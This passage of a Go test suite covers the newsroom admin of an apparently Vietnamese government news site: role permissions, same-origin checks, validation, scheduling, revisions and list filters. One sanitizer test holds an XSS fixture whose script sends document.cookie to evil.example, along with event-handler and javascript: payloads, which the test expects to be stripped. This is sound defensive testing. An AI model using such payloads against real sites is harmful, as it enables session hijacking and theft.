package admin

import (
	"context"
	"fmt"
	"html"
	"net/http"
	"net/url"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"trangtin/internal/content"
	"trangtin/internal/newsroom"
	"trangtin/internal/testenv"
	"trangtin/internal/user"
	"trangtin/internal/vi"
)

// newsFixture is the area with the newsroom wired in, on the fixture's
// two sites, with a category on each and one account per role.
type newsFixture struct {
	*fixture
	content *content.Service
	news    *newsroom.Service
	cat     content.Category // on site A
	sub     content.Category // a child of cat
	catB    content.Category // on site B

	reporter, reporter2, editor, approver, siteAdmin, admin, outsider user.User
}

func newNewsFixture(t *testing.T) *newsFixture {
	t.Helper()
	f := &newsFixture{fixture: newFixture(t)}
	ctx := context.Background()
	f.content = content.NewService(f.db)
	f.news = newsroom.New(f.db, f.content, f.db, f.policyFor)
	srv, err := New(Options{Users: f.users, Sites: f.sites, Audit: f.db, Policy: f.policyFor, Content: f.content, Newsroom: f.news})
	if err != nil {
		t.Fatal(err)
	}
	f.srv = srv
	f.h = http.NewCrossOriginProtection().Handler(srv.Handler())

	f.cat = content.Category{SiteID: f.siteA.ID, Name: "Tin tức - Sự kiện"}
	f.catB = content.Category{SiteID: f.siteB.ID, Name: "Tin tức"}
	for _, c := range []*content.Category{&f.cat, &f.catB} {
		if err := f.content.SaveCategory(ctx, c, nil); err != nil {
			t.Fatal(err)
		}
	}
	f.sub = content.Category{SiteID: f.siteA.ID, ParentID: f.cat.ID, Name: "Kinh tế"}
	if err := f.content.SaveCategory(ctx, &f.sub, nil); err != nil {
		t.Fatal(err)
	}
	f.reporter = f.addUser("pv@giavien.gov.vn", "Kim Thoả", user.RoleReporter, f.siteA.ID)
	f.reporter2 = f.addUser("pv2@giavien.gov.vn", "Trần Văn Hai", user.RoleReporter, f.siteA.ID)
	f.editor = f.addUser("bt@giavien.gov.vn", "Nguyễn Biên Tập", user.RoleEditor, f.siteA.ID)
	f.approver = f.addUser("pd@giavien.gov.vn", "Lê Văn Duyệt", user.RoleApprover, f.siteA.ID)
	f.siteAdmin = f.addUser("qt@giavien.gov.vn", "Quản Trị Trang", user.RoleSiteAdmin, f.siteA.ID)
	f.admin = f.addUser("root@tinh.gov.vn", "Quản Trị Hệ Thống", user.RoleAdmin, 0)
	f.outsider = f.addUser("pd@hoalu.gov.vn", "Người Xã Khác", user.RoleApprover, f.siteB.ID)
	return f
}

// article stores an article of site A directly, in any status, owned by owner.
func (f *newsFixture) article(owner user.User, status content.Status, title string) content.Article {
	f.t.Helper()
	a := content.Article{SiteID: f.siteA.ID, CategoryID: f.cat.ID, Title: title, Body: "<p>Nội dung bài " + title + ".</p>",
		Author: "Kim Thoả", Status: status, OwnerID: owner.ID}
	if status == content.StatusPublished {
		a.PublishedAt = time.Now().Add(-time.Hour)
	}
	if err := f.content.SaveArticle(context.Background(), &a); err != nil {
		f.t.Fatal(err)
	}
	return a
}

func (f *newsFixture) find(id int64) content.Article {
	f.t.Helper()
	a, err := f.db.FindArticleByID(context.Background(), f.siteA.ID, id)
	if err != nil {
		f.t.Fatal(err)
	}
	return a
}

func (f *newsFixture) actor(u user.User) newsroom.Actor {
	f.t.Helper()
	ms, err := f.users.FindMemberships(context.Background(), u.ID)
	if err != nil {
		f.t.Fatal(err)
	}
	return newsroom.Actor{UserID: u.ID, Name: u.Email, Memberships: ms}
}

// signedIn is a browser on site A signed in as u (nil: anonymous).
func (f *newsFixture) signedIn(u *user.User) *client {
	c := f.client("a.test")
	if u != nil {
		c.mustLogin(u.Email, pathHome)
	}
	return c
}

func draftForm(catID int64, title, body string) url.Values {
	return url.Values{"title": {title}, "category": {strconv.FormatInt(catID, 10)}, "body": {body}, "summary": {"Tóm tắt."}, "author": {"Kim Thoả"}}
}

func isSignIn(res response) bool {
	return res.status == http.StatusSeeOther && strings.HasPrefix(res.location(), pathLogin)
}

// TestRoleActionTable checks, over HTTP, that each role can do exactly
// what it should on the articles of its site, and nothing more.
func TestRoleActionTable(t *testing.T) {
	f := newNewsFixture(t)
	const (
		ok     = http.StatusOK
		done   = http.StatusSeeOther
		no     = http.StatusForbidden
		signIn = -1
	)
	type role struct {
		name string
		u    *user.User
	}
	roles := []role{
		{"phóng viên", &f.reporter}, {"biên tập viên", &f.editor}, {"thành viên Ban biên tập", &f.approver},
		{"quản trị trang", &f.siteAdmin}, {"quản trị hệ thống", &f.admin}, {"người của trang khác", &f.outsider}, {"khách", nil},
	}
	future := time.Now().Add(48 * time.Hour).In(vi.Zone).Format(datetimeLocal)
	type action struct {
		name string
		// run performs the action as u (its own article, when the action
		// is about one's own) and returns the answer.
		run func(c *client, u *user.User) response
		// after is the status the article must have after a success.
		after content.Status
		want  []int // per role, in the order of roles
	}
	ownerOr := func(u *user.User) user.User {
		if u == nil {
			return f.reporter
		}
		return *u
	}
	post := func(st content.Status, owner func(*user.User) user.User, suffix string, form url.Values) func(c *client, u *user.User) response {
		return func(c *client, u *user.User) response {
			a := f.article(owner(u), st, "Bài thử "+suffix)
			path := articleURL(a.ID)
			if suffix != "" {
				path += "/" + suffix
			}
			return c.post(path, form)
		}
	}
	ownArticle := ownerOr
	reporters := func(*user.User) user.User { return f.reporter }
	others := func(*user.User) user.User { return f.reporter2 }
	actions := []action{
		{"xem danh sách", func(c *client, _ *user.User) response { return c.get(pathArticles + "/") }, "",
			[]int{ok, ok, ok, no, ok, no, signIn}},
		{"viết bài mới", func(c *client, _ *user.User) response {
			return c.post(pathNewArticle, draftForm(f.cat.ID, "Bài mới", "<p>Nội dung.</p>"))
		}, "", []int{done, done, done, no, done, no, signIn}},
		{"lưu bài của mình", post(content.StatusDraft, ownArticle, "", draftForm(f.cat.ID, "Sửa bài của mình", "<p>Đã sửa.</p>")),
			content.StatusDraft, []int{done, done, done, no, done, no, signIn}},
		{"lưu bài của người khác", post(content.StatusDraft, others, "", draftForm(f.cat.ID, "Sửa bài người khác", "<p>Đã sửa.</p>")),
			content.StatusDraft, []int{no, done, done, no, done, no, signIn}},
		{"gửi biên tập", post(content.StatusDraft, ownArticle, "gui-bien-tap", url.Values{}),
			content.StatusSubmitted, []int{done, done, done, no, done, no, signIn}},
		{"trả lại", post(content.StatusSubmitted, reporters, "tra-lai", url.Values{"comment": {"Thiếu nguồn tin."}}),
			content.StatusReturned, []int{no, done, done, no, done, no, signIn}},
		{"chuyển duyệt", post(content.StatusSubmitted, reporters, "chuyen-duyet", url.Values{}),
			content.StatusApproval, []int{no, done, done, no, done, no, signIn}},
		{"đăng ngay", post(content.StatusApproval, reporters, "dang", url.Values{}),
			content.StatusPublished, []int{no, no, done, no, done, no, signIn}},
		{"hẹn giờ", post(content.StatusApproval, reporters, "hen-gio", url.Values{"at": {future}}),
			content.StatusScheduled, []int{no, no, done, no, done, no, signIn}},
		{"đăng bắt buộc", post(content.StatusSubmitted, reporters, "dang-bat-buoc", url.Values{"force_reason": {"Tin khẩn về thiên tai, cần đăng ngay."}}),
			content.StatusPublished, []int{no, no, done, no, done, no, signIn}},
		{"gỡ bỏ", post(content.StatusPublished, reporters, "go-bo", url.Values{"withdraw_reason": {"Thông tin chưa chính xác."}}),
			content.StatusWithdrawn, []int{no, no, done, no, done, no, signIn}},
	}
	clients := make([]*client, len(roles))
	for i, r := range roles {
		clients[i] = f.signedIn(r.u)
	}
	idOf := regexp.MustCompile(`^/quan-tri/bai-viet/(\d+)\?xong=`)
	for _, act := range actions {
		for i, r := range roles {
			res := act.run(clients[i], r.u)
			want := act.want[i]
			switch {
			case want == signIn:
				if !isSignIn(res) {
					t.Errorf("%s – %s: %d → %q, want the sign-in page", r.name, act.name, res.status, res.location())
				}
			case res.status != want:
				t.Errorf("%s – %s: %d, want %d\n%s", r.name, act.name, res.status, want, excerpt(res.body))
			case want == done:
				m := idOf.FindStringSubmatch(res.location())
				if m == nil {
					t.Errorf("%s – %s: redirected to %q, want the editor", r.name, act.name, res.location())
					continue
				}
				if act.after != "" {
					id := testenv.Must(strconv.ParseInt(m[1], 10, 64)).Get(t)
					if got := f.find(id).Status; got != act.after {
						t.Errorf("%s – %s: the article is %q, want %q", r.name, act.name, got, act.after)
					}
				}
			case want == no:
				if !strings.Contains(res.body, "Không có quyền truy cập") {
					t.Errorf("%s – %s: 403 without the Vietnamese page", r.name, act.name)
				}
			}
		}
	}
}

// excerpt is the main content of a page, for failure messages.
func excerpt(body string) string {
	if i := strings.Index(body, `<main`); i >= 0 {
		body = body[i:]
	}
	if len(body) > 1500 {
		body = body[:1500]
	}
	return body
}

func TestArticlePostsNeedSameOrigin(t *testing.T) {
	f := newNewsFixture(t)
	c := f.signedIn(&f.approver)
	a := f.article(f.reporter, content.StatusApproval, "Bài chờ duyệt")
	for _, path := range []string{pathNewArticle, articleURL(a.ID), articleURL(a.ID) + "/dang", articleURL(a.ID) + "/phien-ban/1/khoi-phuc"} {
		res := c.post(path, draftForm(f.cat.ID, "Từ trang khác", "<p>x</p>"), "Sec-Fetch-Site", "cross-site")
		if res.status != http.StatusForbidden {
			t.Errorf("cross-site POST %s: %d, want 403", path, res.status)
		}
	}
	if got := f.find(a.ID); got.Status != content.StatusApproval || got.Title != "Bài chờ duyệt" {
		t.Errorf("a cross-site POST changed the article: %+v", got)
	}
	if n := testenv.Must(f.db.CountArticles(context.Background(), content.ArticleFilter{SiteID: f.siteA.ID})).Get(t); n != 1 {
		t.Errorf("a cross-site POST created an article: %d articles", n)
	}
}

func TestValidationErrorKeepsWhatWasTyped(t *testing.T) {
	f := newNewsFixture(t)
	c := f.signedIn(&f.reporter)
	title := "Hội nghị tổng kết công tác năm 2024 & phương hướng"
	body := "<p>Sáng nay, <strong>UBND huyện</strong> tổ chức hội nghị…</p>"
	form := draftForm(0, title, body)
	form.Set("category", "")
	form.Set("unit", "Trung tâm VHTT&TT huyện")
	res := c.post(pathNewArticle, form)
	if res.status != http.StatusUnprocessableEntity {
		t.Fatalf("no category: %d, want 422", res.status)
	}
	for _, want := range []string{
		`value="` + html.EscapeString(title) + `"`,
		html.EscapeString(body),
		`value="Trung tâm VHTT&amp;TT huyện"`,
		`id="category-loi"`, "Vui lòng chọn chuyên mục.",
		`aria-invalid="true"`, `href="#category"`,
	} {
		if !strings.Contains(res.body, want) {
			t.Errorf("the form shown again lacks %q", want)
		}
	}
	if n := testenv.Must(f.db.CountArticles(context.Background(), content.ArticleFilter{SiteID: f.siteA.ID})).Get(t); n != 0 {
		t.Errorf("an invalid article was stored")
	}

	// A byline too long for the content rules: the same form again, with
	// the message on the field (the rule is content.PrepareArticle's).
	form = draftForm(f.cat.ID, title, body)
	form.Set("author", strings.Repeat("Nguyễn ", content.MaxName/7+2))
	res = c.post(pathNewArticle, form)
	if res.status != http.StatusUnprocessableEntity || !strings.Contains(res.body, `id="author-loi"`) ||
		!strings.Contains(res.body, "Tên tác giả quá dài.") || !strings.Contains(res.body, `value="`+html.EscapeString(title)+`"`) {
		t.Errorf("a long author: %d\n%s", res.status, excerpt(res.body))
	}
	if n := testenv.Must(f.db.CountArticles(context.Background(), content.ArticleFilter{SiteID: f.siteA.ID})).Get(t); n != 0 {
		t.Errorf("an article with a long author was stored")
	}

	// A workflow action with a missing field keeps the typed text as well.
	a := f.article(f.reporter, content.StatusSubmitted, "Bài chờ biên tập")
	ce := f.signedIn(&f.editor)
	form = draftForm(f.cat.ID, "Tiêu đề đã sửa", "<p>Thân bài đã sửa</p>")
	res = ce.post(articleURL(a.ID)+"/tra-lai", form)
	if res.status != http.StatusUnprocessableEntity || !strings.Contains(res.body, `value="Tiêu đề đã sửa"`) ||
		!strings.Contains(res.body, "Thân bài đã sửa") || !strings.Contains(res.body, `id="comment-loi"`) {
		t.Errorf("return without a comment: %d\n%s", res.status, excerpt(res.body))
	}
	if got := f.find(a.ID); got.Status != content.StatusSubmitted || got.Title != "Bài chờ biên tập" {
		t.Errorf("a refused return saved or moved the article: %q %q", got.Status, got.Title)
	}
}

func TestPastedScriptIsRemoved(t *testing.T) {
	f := newNewsFixture(t)
	c := f.signedIn(&f.reporter)
	body := `<p class="MsoNormal" style="mso-line-height:12pt" onclick="alert('x')">Xin chào <b>bà con</b></p>` +
		`<script>document.location='https://evil.example/?c='+document.cookie</script>` +
		`<img src="/anh/ab/cd.jpg" alt="Ảnh hội nghị" onerror="alert(1)"><a href="javascript:alert(1)">bấm</a>`
	res := c.post(pathNewArticle, draftForm(f.cat.ID, "Bài dán từ Word", body))
	if res.status != http.StatusSeeOther {
		t.Fatalf("create: %d\n%s", res.status, excerpt(res.body))
	}
	id := testenv.Must(strconv.ParseInt(strings.TrimPrefix(strings.Split(res.location(), "?")[0], pathArticles+"/"), 10, 64)).Get(t)
	saved := f.find(id).Body
	for _, bad := range []string{"<script", "onclick", "onerror", "javascript:", "style=", "evil.example", "mso-"} {
		if strings.Contains(strings.ToLower(saved), bad) {
			t.Errorf("saved body keeps %q: %s", bad, saved)
		}
	}
	if !strings.Contains(saved, "Xin chào <b>bà con</b>") || !strings.Contains(saved, `alt="Ảnh hội nghị"`) {
		t.Errorf("saved body lost the text: %s", saved)
	}
	// The editor shows it, escaped inside the textarea.
	page := c.get(articleURL(id))
	if page.status != 200 || strings.Contains(page.body, "<script>document") || !strings.Contains(page.body, html.EscapeString(saved)) {
		t.Errorf("editor page: %d", page.status)
	}
}

func TestConvertFromLegacyFonts(t *testing.T) {
	f := newNewsFixture(t)
	c := f.signedIn(&f.reporter)
	for _, tc := range []struct{ legacy, in, want string }{
		{"tcvn3", "<p>Ng\u00adêi d©n</p>", "<p>Người dân</p>"},
		{"vni", "<p>Ngöôøi daân tænh Quaûng Ngaõi</p>", "<p>Người dân tỉnh Quảng Ngãi</p>"},
	} {
		form := draftForm(f.cat.ID, "Bài gõ bằng phông cũ", tc.in)
		form.Set("legacy", tc.legacy)
		res := c.post(pathNewArticle+"/chuyen-ma", form)
		if res.status != http.StatusOK {
			t.Fatalf("%s: %d", tc.legacy, res.status)
		}
		if !strings.Contains(res.body, ">"+html.EscapeString(tc.want)+"</textarea>") {
			t.Errorf("%s: the body was not converted to %q\n%s", tc.legacy, tc.want, excerpt(res.body))
		}
		if !strings.Contains(res.body, `value="Bài gõ bằng phông cũ"`) || !strings.Contains(res.body, "Bài chưa được lưu") {
			t.Errorf("%s: the other fields or the notice are missing", tc.legacy)
		}
	}
	if n := testenv.Must(f.db.CountArticles(context.Background(), content.ArticleFilter{SiteID: f.siteA.ID})).Get(t); n != 0 {
		t.Errorf("the conversion saved an article")
	}
	// On a stored article too, keeping the version the form was read from.
	a := f.article(f.reporter, content.StatusDraft, "Bài nháp")
	form := draftForm(f.cat.ID, "Bài nháp", "Ng\u00adêi d©n")
	form.Set("version", "12345")
	res := c.post(articleURL(a.ID)+"/chuyen-ma", form)
	if res.status != 200 || !strings.Contains(res.body, ">Người dân</textarea>") || !strings.Contains(res.body, `name="version" value="12345"`) {
		t.Errorf("conversion on a stored article: %d", res.status)
	}
}

func TestStaleFormIsAConflict(t *testing.T) {
	f := newNewsFixture(t)
	c := f.signedIn(&f.reporter)
	a := f.article(f.reporter, content.StatusDraft, "Bản đầu")
	page := c.get(articleURL(a.ID))
	m := regexp.MustCompile(`name="version" value="(\d+)"`).FindStringSubmatch(page.body)
	if m == nil {
		t.Fatal("no version in the editor")
	}
	// Someone else saves meanwhile (in the same microsecond, for all it
	// matters: the version changes, not a clock).
	if _, err := f.news.Save(context.Background(), f.actor(f.editor), f.siteA.ID, a.ID,
		newsroom.Draft{CategoryID: f.cat.ID, Title: "Bản của biên tập viên", Body: "<p>x</p>"}, ""); err != nil {
		t.Fatal(err)
	}
	form := draftForm(f.cat.ID, "Bản của tôi", "<p>Nội dung tôi vừa gõ</p>")
	form.Set("version", m[1])
	res := c.post(articleURL(a.ID), form)
	if res.status != http.StatusConflict {
		t.Fatalf("stale save: %d, want 409", res.status)
	}
	for _, want := range []string{"Bài viết vừa được người khác thay đổi", `value="Bản của tôi"`, "Nội dung tôi vừa gõ"} {
		if !strings.Contains(res.body, want) {
			t.Errorf("the conflict page lacks %q", want)
		}
	}
	if got := f.find(a.ID).Title; got != "Bản của biên tập viên" {
		t.Errorf("the stale form overwrote the article: %q", got)
	}
	// A wrong stage is a conflict too, with the form kept.
	sub := f.article(f.reporter, content.StatusSubmitted, "Đã gửi")
	res = c.post(articleURL(sub.ID), draftForm(f.cat.ID, "Sửa sau khi gửi", "<p>y</p>"))
	if res.status != http.StatusConflict || !strings.Contains(res.body, "Bài viết vừa được người khác thay đổi") || !strings.Contains(res.body, `value="Sửa sau khi gửi"`) {
		t.Errorf("save in the wrong stage: %d", res.status)
	}
}

func TestScheduleIsVietnamTime(t *testing.T) {
	f := newNewsFixture(t)
	c := f.signedIn(&f.approver)
	a := f.article(f.reporter, content.StatusApproval, "Bài hẹn giờ")
	at := time.Now().Add(72 * time.Hour).In(vi.Zone).Truncate(time.Minute)
	res := c.post(articleURL(a.ID)+"/hen-gio", url.Values{"at": {at.Format(datetimeLocal)}})
	if res.status != http.StatusSeeOther {
		t.Fatalf("schedule: %d\n%s", res.status, excerpt(res.body))
	}
	got := f.find(a.ID)
	if got.Status != content.StatusScheduled || !got.PublishedAt.Equal(at) {
		t.Errorf("scheduled %q at %v, want %v", got.Status, got.PublishedAt, at)
	}
	page := c.get(res.location())
	if !strings.Contains(page.body, "Đã hẹn giờ đăng bài.") || !strings.Contains(page.body, vi.LocalClock(at)+", "+vi.LocalDate(at)) {
		t.Errorf("the editor does not show the schedule in Vietnam time")
	}
	// A time in the past is refused next to the field.
	b := f.article(f.reporter, content.StatusApproval, "Bài hẹn giờ sai")
	res = c.post(articleURL(b.ID)+"/hen-gio", url.Values{"at": {time.Now().Add(-time.Hour).In(vi.Zone).Format(datetimeLocal)}})
	if res.status != http.StatusUnprocessableEntity || !strings.Contains(res.body, `id="at-loi"`) {
		t.Errorf("schedule in the past: %d", res.status)
	}
}

// TestScheduleTypedTheVietnameseWay: "Hẹn giờ" reads a day typed
// day/month/year and a 24-hour time as two fields, in Vietnam time, and
// shows them back in the same form; a day not on the calendar is refused
// with the field's message, what was typed kept.
func TestScheduleTypedTheVietnameseWay(t *testing.T) {
	f := newNewsFixture(t)
	c := f.signedIn(&f.approver)
	y, _, _ := time.Now().In(vi.Zone).AddDate(1, 0, 0).Date()
	day := vi.NewDay(y, time.December, 5)
	a := f.article(f.reporter, content.StatusApproval, "Bài hẹn giờ kiểu Việt Nam")
	res := c.post(articleURL(a.ID)+"/hen-gio", url.Values{"at": {"5/12/" + strconv.Itoa(y)}, "at-gio": {"8h30"}})
	if res.status != http.StatusSeeOther {
		t.Fatalf("schedule: %d\n%s", res.status, excerpt(res.body))
	}
	if got := f.find(a.ID); got.Status != content.StatusScheduled || !got.PublishedAt.Equal(day.At(8, 30)) {
		t.Errorf("scheduled %q at %v, want 5 December %d 08:30 in Vietnam", got.Status, got.PublishedAt.In(vi.Zone), y)
	}
	b := f.article(f.reporter, content.StatusApproval, "Bài hẹn ngày sai")
	res = c.post(articleURL(b.ID)+"/hen-gio", url.Values{"at": {"31/02/" + strconv.Itoa(y)}, "at-gio": {"08:30"}})
	if res.status != http.StatusUnprocessableEntity || !strings.Contains(res.body, "Ngày đăng không hợp lệ") ||
		!strings.Contains(res.body, `value="31/02/`+strconv.Itoa(y)+`"`) || !strings.Contains(res.body, `value="08:30"`) {
		t.Errorf("impossible day: %d\n%s", res.status, excerpt(res.body))
	}
	res = c.post(articleURL(b.ID)+"/hen-gio", url.Values{"at": {"05/12/" + strconv.Itoa(y)}, "at-gio": {"25:00"}})
	if res.status != http.StatusUnprocessableEntity || !strings.Contains(res.body, "Giờ đăng không hợp lệ") || !strings.Contains(res.body, `id="at-gio-loi"`) {
		t.Errorf("impossible time: %d", res.status)
	}
	if got := f.find(b.ID); got.Status != content.StatusApproval {
		t.Errorf("a refused schedule changed the article: %q", got.Status)
	}
}

func TestSubmitAfterEditSendsTheEdit(t *testing.T) {
	f := newNewsFixture(t)
	c := f.signedIn(&f.reporter)
	res := c.post(pathNewArticle+"/gui-bien-tap", draftForm(f.cat.ID, "Viết và gửi luôn", "<p>Bài mới.</p>"))
	if res.status != http.StatusSeeOther || !strings.HasSuffix(res.location(), "?xong=gui") {
		t.Fatalf("create and submit: %d %q", res.status, res.location())
	}
	a := f.article(f.reporter, content.StatusDraft, "Bản nháp")
	res = c.post(articleURL(a.ID)+"/gui-bien-tap", draftForm(f.cat.ID, "Bản nháp đã sửa", "<p>Sửa rồi gửi.</p>"))
	if res.status != http.StatusSeeOther {
		t.Fatalf("submit: %d", res.status)
	}
	got := f.find(a.ID)
	if got.Status != content.StatusSubmitted || got.Title != "Bản nháp đã sửa" {
		t.Errorf("after submit: %q %q", got.Status, got.Title)
	}
	// Photos need a description before they go to the editors.
	res = c.post(pathNewArticle+"/gui-bien-tap", draftForm(f.cat.ID, "Ảnh không mô tả", `<p><img src="/anh/x.jpg"></p>`))
	if res.status != http.StatusUnprocessableEntity || !strings.Contains(res.body, "mô tả") {
		t.Errorf("submit with a photo without alt: %d", res.status)
	}
}

func TestReturnedArticleShowsTheComment(t *testing.T) {
	f := newNewsFixture(t)
	a := f.article(f.reporter, content.StatusSubmitted, "Bài cần sửa")
	ce := f.signedIn(&f.editor)
	if res := ce.post(articleURL(a.ID)+"/tra-lai", url.Values{"comment": {"Bổ sung ý kiến của người dân."}}); res.status != http.StatusSeeOther {
		t.Fatalf("return: %d", res.status)
	}
	c := f.signedIn(&f.reporter)
	page := c.get(articleURL(a.ID))
	for _, want := range []string{"Nhận xét khi trả lại bài", "Bổ sung ý kiến của người dân.", ">Gửi biên tập</button>", ">Lưu nháp</button>"} {
		if !strings.Contains(page.body, want) {
			t.Errorf("the author's editor lacks %q", want)
		}
	}
	inbox := c.get(pathInbox + "/")
	if inbox.status != 200 || !strings.Contains(inbox.body, "bị trả lại: Bổ sung ý kiến của người dân.") ||
		!strings.Contains(inbox.body, `href="`+articleURL(a.ID)+`"`) {
		t.Errorf("the author's inbox: %d\n%s", inbox.status, excerpt(inbox.body))
	}
}

func TestEditorShowsOnlyAllowedButtons(t *testing.T) {
	f := newNewsFixture(t)
	a := f.article(f.reporter, content.StatusApproval, "Bài chờ duyệt")
	buttons := regexp.MustCompile(`formaction="[^"]*/([a-z-]+)"`)
	got := func(u user.User) string {
		page := f.signedIn(&u).get(articleURL(a.ID))
		if page.status != 200 {
			return strconv.Itoa(page.status)
		}
		var names []string
		for _, m := range buttons.FindAllStringSubmatch(page.body, -1) {
			names = append(names, m[1])
		}
		return strings.Join(names, " ")
	}
	for _, tc := range []struct {
		u    user.User
		want string
	}{
		{f.reporter, ""}, // the author cannot edit while it waits
		{f.editor, "tra-lai xem-truoc chuyen-ma"},
		{f.approver, "dang tra-lai hen-gio dang-bat-buoc xem-truoc chuyen-ma"},
		{f.reporter2, "403"},
	} {
		if g := got(tc.u); g != tc.want {
			t.Errorf("%s sees %q, want %q", tc.u.Email, g, tc.want)
		}
	}
	// The approver who wrote the article cannot approve it himself.
	own := f.article(f.approver, content.StatusApproval, "Bài của trưởng ban")
	page := f.signedIn(&f.approver).get(articleURL(own.ID))
	if strings.Contains(page.body, "/dang\"") || !strings.Contains(page.body, "/dang-bat-buoc\"") {
		t.Errorf("self-approval buttons on the approver's own article")
	}
}

func TestRevisionsDiffAndRestore(t *testing.T) {
	f := newNewsFixture(t)
	c := f.signedIn(&f.reporter)
	res := c.post(pathNewArticle, draftForm(f.cat.ID, "Huyện tổ chức lễ hội", "<p>Lễ hội diễn ra vào mùa xuân.</p><p>Đông đảo nhân dân tham dự.</p>"))
	if res.status != http.StatusSeeOther {
		t.Fatalf("create: %d", res.status)
	}
	id := testenv.Must(strconv.ParseInt(strings.TrimPrefix(strings.Split(res.location(), "?")[0], pathArticles+"/"), 10, 64)).Get(t)
	res = c.post(articleURL(id), draftForm(f.cat.ID, "Huyện long trọng tổ chức lễ hội", "<p>Lễ hội diễn ra vào mùa thu.</p><p>Đông đảo nhân dân tham dự.</p>"))
	if res.status != http.StatusSeeOther {
		t.Fatalf("save: %d", res.status)
	}
	list := c.get(articleURL(id) + "/phien-ban")
	if list.status != 200 || !strings.Contains(list.body, "Phiên bản 2") || !strings.Contains(list.body, `href="`+articleURL(id)+`/phien-ban/1/2"`) {
		t.Fatalf("revisions: %d\n%s", list.status, excerpt(list.body))
	}
	if res := c.get(articleURL(id) + "/phien-ban/so-sanh?a=1&b=2"); res.status != http.StatusSeeOther || res.location() != articleURL(id)+"/phien-ban/1/2" {
		t.Errorf("compare form: %d %q", res.status, res.location())
	}
	diff := c.get(articleURL(id) + "/phien-ban/1/2")
	for _, want := range []string{"<ins>long trọng</ins>", "<del>xuân.</del>", "<ins>thu.</ins>", "Đông đảo nhân dân tham dự."} {
		if !strings.Contains(diff.body, want) {
			t.Errorf("diff lacks %q", want)
		}
	}
	if strings.Contains(diff.body, "<del>Đông") {
		t.Errorf("an unchanged paragraph is marked deleted")
	}

	res = c.post(articleURL(id)+"/phien-ban/1/khoi-phuc", nil)
	if res.status != http.StatusSeeOther || !strings.HasSuffix(res.location(), "?xong=khoi-phuc") {
		t.Fatalf("restore: %d %q", res.status, res.location())
	}
	revs, err := f.news.Revisions(context.Background(), f.actor(f.reporter), f.siteA.ID, id)
	if err != nil {
		t.Fatal(err)
	}
	if len(revs) != 3 || revs[0].Number != 3 || revs[0].Note != "Khôi phục từ phiên bản 1" || revs[0].Draft.Title != "Huyện tổ chức lễ hội" {
		t.Errorf("after restore: %d revisions, newest %+v", len(revs), revs[0])
	}
	if got := f.find(id); got.Title != "Huyện tổ chức lễ hội" || got.Status != content.StatusDraft {
		t.Errorf("restored article: %q %q", got.Title, got.Status)
	}
	// Someone else's revisions are not shown to a reporter.
	if res := f.signedIn(&f.reporter2).get(articleURL(id) + "/phien-ban"); res.status != http.StatusForbidden {
		t.Errorf("another reporter on the revisions: %d", res.status)
	}
	if res := c.get(articleURL(id) + "/phien-ban/1/9"); res.status != http.StatusNotFound {
		t.Errorf("unknown revision: %d", res.status)
	}
}

func TestArticleListFilters(t *testing.T) {
	f := newNewsFixture(t)
	ctx := context.Background()
	mine := f.article(f.reporter, content.StatusDraft, "Hội nghị sơ kết")
	f.article(f.reporter2, content.StatusSubmitted, "Đón bằng công nhận xã nông thôn mới")
	pub := f.article(f.reporter2, content.StatusPublished, "Khánh thành cầu Gián Khẩu")
	econ := content.Article{SiteID: f.siteA.ID, CategoryID: f.sub.ID, Title: "Giá lúa tăng", Status: content.StatusDraft, OwnerID: f.reporter2.ID}
	if err := f.content.SaveArticle(ctx, &econ); err != nil {
		t.Fatal(err)
	}
	// An edit of the published article, waiting for approval.
	if _, err := f.news.Save(ctx, f.actor(f.editor), f.siteA.ID, pub.ID, newsroom.Draft{CategoryID: f.cat.ID, Title: "Khánh thành cầu Gián Khẩu mới", Body: "<p>x</p>"}, ""); err != nil {
		t.Fatal(err)
	}
	c := f.signedIn(&f.editor)
	titles := func(query string) string {
		res := c.get(pathArticles + "/?" + query)
		if res.status != 200 {
			return strconv.Itoa(res.status)
		}
		var out []string
		for _, m := range regexp.MustCompile(`<p class="article-item-title"><a href="[^"]+">([^<]+)</a>`).FindAllStringSubmatch(res.body, -1) {
			out = append(out, html.UnescapeString(m[1]))
		}
		return strings.Join(out, " | ")
	}
	for _, tc := range []struct{ query, want string }{
		{"", "Khánh thành cầu Gián Khẩu | Giá lúa tăng | Đón bằng công nhận xã nông thôn mới | Hội nghị sơ kết"},
		{"trang-thai=draft", "Khánh thành cầu Gián Khẩu | Giá lúa tăng | Hội nghị sơ kết"}, // the pending edit is a draft
		{"trang-thai=submitted", "Đón bằng công nhận xã nông thôn mới"},
		{"chuyen-muc=" + strconv.FormatInt(f.sub.ID, 10), "Giá lúa tăng"},
		{"chuyen-muc=" + strconv.FormatInt(f.cat.ID, 10) + "&trang-thai=draft", "Khánh thành cầu Gián Khẩu | Giá lúa tăng | Hội nghị sơ kết"},
		{"q=nong+thon", "Đón bằng công nhận xã nông thôn mới"},
		{"q=HỘI+NGHỊ", "Hội nghị sơ kết"},
	} {
		if got := titles(tc.query); got != tc.want {
			t.Errorf("?%s: %s\nwant %s", tc.query, got, tc.want)
		}
	}
	cr := f.signedIn(&f.reporter)
	res := cr.get(pathArticles + "/?tac-gia=cua-toi")
	if !strings.Contains(res.body, html.EscapeString(mine.Title)) || strings.Contains(res.body, "Giá lúa tăng") {
		t.Errorf("mine filter:\n%s", excerpt(res.body))
	}
	if !strings.Contains(res.body, "Kim Thoả") || !strings.Contains(res.body, vi.LocalDate(f.find(mine.ID).UpdatedAt)) {
		t.Errorf("a row lacks its author or date")
	}

	// Pagination.
	for i := 0; i < listPerPage+2; i++ {
		f.article(f.reporter, content.StatusDraft, fmt.Sprintf("Bài số %d", i))
	}
	p1 := cr.get(pathArticles + "/?tac-gia=cua-toi")
	// The list answers at …/bai-viet, or at …/bai-viet/ while admin.go
	// still registers the placeholder of the section.
	next := regexp.MustCompile(`href="` + pathArticles + `/?\?tac-gia=cua-toi&amp;trang=2"`)
	if !strings.Contains(p1.body, "Trang 1 / 2") || !next.MatchString(p1.body) {
		t.Errorf("no pager on page 1")
	}
	p2 := cr.get(pathArticles + "/?tac-gia=cua-toi&trang=2")
	if !strings.Contains(p2.body, "Trang 2 / 2") || !strings.Contains(p2.body, "Hội nghị sơ kết") {
		t.Errorf("page 2 lacks the oldest article")
	}
}

func TestInboxQueues(t *testing.T) {
	f := newNewsFixture(t)
	ctx := context.Background()
	a, err := f.news.Create(ctx, f.actor(f.reporter), f.siteA.ID, newsroom.Draft{CategoryID: f.cat.ID, Title: "Bài gửi biên tập", Body: "<p>x</p>"})
	if err != nil {
		t.Fatal(err)
	}
